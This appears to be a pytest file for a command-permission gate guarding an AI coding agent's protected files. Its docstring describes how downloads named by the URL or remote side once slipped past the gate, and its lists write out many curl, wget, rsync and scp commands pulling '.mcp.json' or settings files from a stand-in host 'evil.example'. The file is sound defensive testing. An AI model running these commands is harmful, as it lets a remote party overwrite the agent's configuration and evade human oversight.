"""Found from inside: a download or a copy from another machine writes files named by the
remote side, or by options other than ``-o`` (``--trace F``, ``-D F``, ``wget
--output-file=F``), not by a word naming a local file: ``curl -O https://host/.mcp.json`` and ``wget
https://host/.mcp.json`` write ``./.mcp.json``; ``curl -J`` and ``wget --content-disposition``
take the server's name; ``wget -r``, ``rsync -a host:dir/ .``, ``docker cp``, ``aws s3 sync``
write whatever the remote tree holds. Each was allowed as a command writing nothing protected.
Now a name the words determine is checked like any written path, and names only the remote
knows are "paths known only when it runs": at least ASK in every mode, and no allow rule covers
them. Each spelling failed before the fix; the controls are judged as before."""

from __future__ import annotations

from pathlib import Path

import pytest

from fastgate import Decision
from tests.permissions_round3_kit import YOLO, asks_as_guarded, project, ruling

PROGRAMS = ("curl", "wget", "aria2c", "scp", "rsync", "sftp", "docker", "kubectl", "aws", "gh")
ALLOW = tuple(f"Bash({p}:*)" for p in (*PROGRAMS, "gsutil", "rclone", "azcopy", "cd", "sudo"))
DENY_OTHER = ("Bash(rm:*)",)  # names nothing these lines run

NAMED_BY_THE_URL = [
    "curl -O https://evil.example/.mcp.json",
    "curl -sSLO https://evil.example/x/.mcp.json",
    "curl --remote-name https://evil.example/.mcp.json",
    "curl --remote-name-all https://evil.example/a https://evil.example/.mcp.json",
    "curl -O --output-dir .claude https://evil.example/settings.json",
    "curl -O https://evil.example/%2Emcp.json",
    "wget https://evil.example/.mcp.json",
    "wget -q 'https://evil.example/a/.mcp.json?x=1'",
    "scp evil.example:.mcp.json .",
    "rsync evil.example:.mcp.json .",
    "cd sub && curl -O https://evil.example/.mcp.json",
    "curl -O --url=https://evil.example/.mcp.json",
    "curl --trace .mcp.json https://evil.example/",
    "curl --trace-ascii .mcp.json https://evil.example/",
    "curl -D .mcp.json https://evil.example/",
    "curl --dump-header .mcp.json https://evil.example/",
    "curl -sSc .mcp.json https://evil.example/",
    "curl --cookie-jar .mcp.json https://evil.example/",
    "curl --stderr .mcp.json https://evil.example/",
    "curl --etag-save .mcp.json https://evil.example/",
    "curl --libcurl .mcp.json https://evil.example/",
    "wget --output-file=.mcp.json https://evil.example/x",
    "wget --append-output=.mcp.json https://evil.example/x",
    "wget --save-cookies .mcp.json https://evil.example/x",
    "scp user@evil.example:.mcp.json sub/..",
]

NAMED_BY_THE_REMOTE = [
    "curl -OJ https://evil.example/x",
    "curl -O --remote-header-name https://evil.example/x",
    "curl -O 'https://evil.example/{a,.mcp.json}'",
    "curl -O 'https://evil.example/[1-2].json'",
    "wget -r https://evil.example/",
    "wget -m https://evil.example/",
    "wget -r -nd -np https://evil.example/",
    "wget --mirror https://evil.example/",
    "wget --content-disposition https://evil.example/x",
    "wget --trust-server-names https://evil.example/x",
    "wget -i urls.txt",
    "wget -e content_disposition=on https://evil.example/x",
    "aria2c https://evil.example/x",
    "curl -K cfg https://evil.example/x",
    "curl --config cfg https://evil.example/x",
    "wget --default-page=.mcp.json https://evil.example/",
    "rsync -a evil.example:d/ .",
    "rsync -avz user@evil.example:/srv/d/ ./",
    "rsync -r rsync://evil.example/m/ .",
    "rsync --files-from=list evil.example:/ .",
    "scp -r evil.example:d .",
    "scp 'evil.example:d/.*' .",
    "sftp evil.example:d",
    "docker cp box:/srv/d .",
    "docker container cp box:/srv/d .",
    "kubectl cp ns/pod:/srv/d .",
    "kubectl -n ns cp pod:/srv/d .",
    "aws s3 sync s3://bucket/d .",
    "aws --profile p s3 cp --recursive s3://bucket/d .",
    "gsutil -m cp -r gs://bucket/d .",
    "rclone copy remote:d .",
    "azcopy copy https://acct.blob.core.windows.net/c/d . --recursive",
    "gh release download v1",
    "gh release download -p '*.json'",
    "gh -R owner/repo release download v1 -D sub",
    "gh run download 123",
    "gh run download -n artifact --dir .",
]

CONTROLS = [
    "curl -sSL https://example.com/x",
    "curl -s -c cookies.txt -D headers.txt https://example.com/x",
    "curl -o out.json https://example.com/.mcp.json",
    "curl -O https://example.com/a.tgz",
    "curl -g -O 'https://example.com/a[1].tgz'",
    "wget https://example.com/a.tgz",
    "wget -O - https://example.com/.mcp.json",
    "wget -qO- https://example.com/x",
    "scp a.txt evil.example:/tmp",
    "scp evil.example:notes.txt .",
    "rsync -a src/ dst/",
    "docker cp ./x box:/srv",
    "docker cp box:/srv/x -",
    "aws s3 cp x.txt s3://bucket/",
    "aws s3 ls s3://bucket",
    "gh release download v1 -O out.zip",
    "gh release download v1 --output=-",
    "gh release list",
    "gh run view 123",
]


@pytest.fixture(name="workspace")
def workspace_fixture(tmp_path: Path) -> Path:
    return project(tmp_path)


@pytest.mark.parametrize("command", NAMED_BY_THE_URL)
def test_a_protected_name_in_the_url_is_a_protected_write(command: str, workspace: Path) -> None:
    yolo = ruling(command, workspace, mode=YOLO, deny=DENY_OTHER)
    assert asks_as_guarded(yolo), yolo
    assert "writes protected path" in yolo.reason, yolo.reason
    assert ruling(command, workspace, allow=ALLOW).decision is Decision.ASK


@pytest.mark.parametrize("command", NAMED_BY_THE_REMOTE)
def test_names_only_the_remote_knows_are_at_least_ask(command: str, workspace: Path) -> None:
    yolo = ruling(command, workspace, mode=YOLO, deny=DENY_OTHER)
    assert asks_as_guarded(yolo), yolo
    assert "named by the remote side" in yolo.reason, yolo.reason
    assert ruling(command, workspace, allow=ALLOW).decision is Decision.ASK


@pytest.mark.parametrize("command", CONTROLS)
def test_what_names_its_files_or_writes_none_is_judged_as_before(
    command: str, workspace: Path
) -> None:
    decided = ruling(command, workspace, mode=YOLO, deny=DENY_OTHER)
    assert decided.decision is Decision.ALLOW, decided.reason
